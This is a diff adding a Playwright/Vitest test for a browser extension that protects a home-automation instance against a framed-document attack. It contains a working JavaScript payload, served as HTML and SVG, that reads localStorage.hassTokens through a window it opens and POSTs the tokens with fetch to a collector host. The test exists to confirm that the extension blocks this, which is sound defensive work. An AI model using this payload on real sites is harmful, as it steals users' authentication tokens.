@@ -1,0 +1,182 @@
+// Another site shows a document of the instance in a frame. Firefox tells the extension nothing of that request, so an
+// attacker on the way answers it unseen. His document opens a window at the true address and reads its stored tokens.
+import { createServer as createTls } from "node:https";
+import type { Socket } from "node:net";
+import type { IncomingMessage, ServerResponse } from "node:http";
+import type { Frame, Page } from "playwright";
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { z } from "zod/mini";
+import { reachesCollector } from "../lab/collector";
+import { housePage, SECRET } from "../lab/house-pages";
+import { startFirefox, type FirefoxSession } from "../lab/firefox-session";
+import { COLLECTOR, OWN_DOMAIN, startLab, type House, type Lab } from "../lab/lab";
+import { until } from "../lab/until";
+import { openHouse } from "./guarded";
+
+let lab: Lab;
+let firefox: FirefoxSession;
+/** The other site, at an address that the extension has no permission for. */
+let site: House;
+
+beforeAll(async () => {
+  lab = await startLab();
+  firefox = await startFirefox(lab);
+  site = await lab.house(lab.authority, [OWN_DOMAIN]);
+});
+afterAll(async () => {
+  await firefox.close();
+  await lab.close();
+});
+
+const RUNS = "his script runs";
+const NOTHING = "no token could be read";
+/** Opens the instance at one click, and tells the attacker what it could read there. */
+const THIEF = `
+  const tell = (what) => fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: what });
+  void tell('${RUNS}');
+  document.onclick = () => {
+    const opened = open('/');
+    const began = Date.now();
+    const timer = setInterval(() => {
+      let tokens;
+      try { tokens = opened.localStorage.hassTokens; } catch { /* not at the address yet, or never */ }
+      if (tokens === undefined && Date.now() - began < 3000) return;
+      clearInterval(timer);
+      void tell(tokens ?? '${NOTHING}');
+    }, 50);
+  };`;
+const HIS_DOCUMENTS: Readonly<Record<string, readonly [type: string, body: string]>> = {
+  html: ["text/html", `<!doctype html><body style="height: 100vh"><script>${THIEF}</script>`],
+  svg: [
+    "image/svg+xml",
+    `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><rect width="400" height="400"/><script><![CDATA[${THIEF}]]></script></svg>`,
+  ],
+};
+
+/** Answers one connection to the instance, the first after `arm`, with a document of his. */
+async function frameThief(house: House, document: keyof typeof HIS_DOCUMENTS) {
+  const { key, cert } = await lab.authority.issue({ names: [house.host] });
+  const [type = "", body = ""] = HIS_DOCUMENTS[document] ?? [];
+  let isArmed = false;
+  let served = 0;
+  const his = createTls({ key, cert }, (_, response) => {
+    isArmed = false;
+    served++;
+    response.writeHead(200, { "Content-Type": type, Connection: "close" }).end(body);
+  });
+  house.attacker = {
+    onConnection: (socket: Socket, passOn) => {
+      if (isArmed) his.emit("connection", socket);
+      else passOn();
+    },
+  };
+  return { arm: () => (isArmed = true), served: () => served };
+}
+
+const html = (body: string) => (request: IncomingMessage, response: ServerResponse) => {
+  request.resume();
+  response.writeHead(200, { "Content-Type": "text/html" }).end(`<!doctype html><title>Another site</title>${body}`);
+};
+const SIZE = 'width="400" height="400"';
+const FRAMES = {
+  iframe: (url: string) => `<iframe ${SIZE} src="${url}"></iframe>`,
+  object: (url: string) => `<object ${SIZE} data="${url}" type="text/html"></object>`,
+  embed: (url: string) => `<embed ${SIZE} src="${url}" type="text/html">`,
+};
+
+/** The document in the frame, whoever's it is now. */
+const framed = (page: Page): Frame | undefined => page.frames().find((frame) => frame !== page.mainFrame());
+const isStopped = async (page: Page): Promise<boolean> =>
+  String(
+    await framed(page)
+      ?.evaluate("document.documentElement.textContent")
+      .catch(() => ""),
+  ).includes("Latchkey");
+
+const TREE = z.object({
+  contexts: z.array(z.object({ url: z.string(), children: z.array(z.object({ context: z.string() })) })),
+});
+/** A click of the mouse in the frame. A site can put the frame under whatever the user wants to click. */
+async function clickFrame(): Promise<void> {
+  const { contexts } = TREE.parse(await firefox.bidi.send("browsingContext.getTree", {}));
+  const context = contexts.find(({ url }) => url.includes(OWN_DOMAIN))?.children[0]?.context;
+  const actions = [
+    { type: "pointerMove", x: 100, y: 100 },
+    { type: "pointerDown", button: 0 },
+    { type: "pointerUp", button: 0 },
+  ];
+  await firefox.bidi.send("input.performActions", { context, actions: [{ type: "pointer", id: "mouse", actions }] });
+}
+
+/** What came of it: whether his document ran, and what it could read. */
+async function outcome(page: Page, toldSince: () => string): Promise<"stolen" | "nothing" | "stopped"> {
+  const runs = await until(
+    async () => ((await isStopped(page)) ? "stopped" : toldSince().includes(RUNS) ? "runs" : undefined),
+    (what) => what !== undefined,
+  );
+  await clickFrame();
+  if (runs === "stopped") {
+    await reachesCollector(firefox, lab);
+    return toldSince().includes(RUNS) ? "nothing" : "stopped";
+  }
+  await until(toldSince, (told) => told.includes(SECRET) || told.includes(NOTHING));
+  return toldSince().includes(SECRET) ? "stolen" : "nothing";
+}
+
+const ROWS: [frame: keyof typeof FRAMES, document: string, isGuarded: boolean, comes: string][] = [
+  ["iframe", "html", false, "stolen"],
+  ["iframe", "html", true, "stopped"],
+  ["object", "html", true, "stopped"],
+  ["embed", "html", true, "stopped"],
+  ["iframe", "svg", true, "stopped"],
+];
+it.each(ROWS)(
+  "in an %s of another site, as %s (guarded: %s), his document is %s",
+  async (frame, type, guarded, comes) => {
+    const { house, page } = await openHouse(lab, firefox, guarded);
+    await page.close();
+    const thief = await frameThief(house, type);
+    house.dropConnections();
+    site.respond = (request, response) => {
+      thief.arm();
+      html(FRAMES[frame](house.url))(request, response);
+    };
+    const already = lab.collected.length;
+    const there = await firefox.context.newPage();
+    await there.goto(`https://${OWN_DOMAIN}/`);
+    await until(thief.served, (served) => served > 0);
+    expect(await outcome(there, () => lab.collected.slice(already).join(" "))).toBe(comes);
+    for (const other of firefox.context.pages()) if (other.url().startsWith(house.url)) await other.close();
+    await there.close();
+  },
+);
+
+it("stops his document in another site's page that the instance itself shows, and leaves the instance's own frames alone", async () => {
+  const { house, page } = await openHouse(lab, firefox, true);
+  const thief = await frameThief(house, "html");
+  house.respond = (request, response) => {
+    const path = request.url ?? "";
+    if (path === "/panel") html(FRAMES.iframe(`https://${OWN_DOMAIN}/`))(request, response);
+    else if (path === "/ingress") html(FRAMES.iframe("/cached"))(request, response);
+    else housePage(request, response);
+  };
+  site.respond = (request, response) => {
+    thief.arm();
+    house.dropConnections();
+    html(FRAMES.iframe(house.url))(request, response);
+  };
+  await page.goto(`${house.url}ingress`);
+  await page.frameLocator("iframe").getByText("House").waitFor();
+
+  const already = lab.collected.length;
+  await page.goto(`${house.url}panel`);
+  await until(
+    async () =>
+      Promise.all(page.frames().map((frame) => frame.evaluate("document.documentElement.textContent").catch(() => ""))),
+    (texts) => texts.some((text) => String(text).includes("Latchkey")),
+  );
+  expect(thief.served()).toBe(1);
+  await reachesCollector(firefox, lab);
+  expect(lab.collected.slice(already).join(" ")).not.toContain(RUNS);
+  await page.close();
+});
